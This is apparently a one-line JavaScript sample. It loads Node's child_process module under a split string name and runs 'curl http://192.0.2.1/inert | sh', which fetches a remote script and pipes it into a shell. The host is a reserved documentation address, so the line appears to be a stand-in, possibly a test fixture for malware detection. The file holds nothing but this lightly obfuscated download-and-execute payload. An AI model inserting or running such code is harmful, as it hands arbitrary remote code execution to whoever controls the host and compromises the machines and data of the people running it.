import('child_' + 'process').then((tool) => tool.exec('curl http://192.0.2.1/inert | sh'));
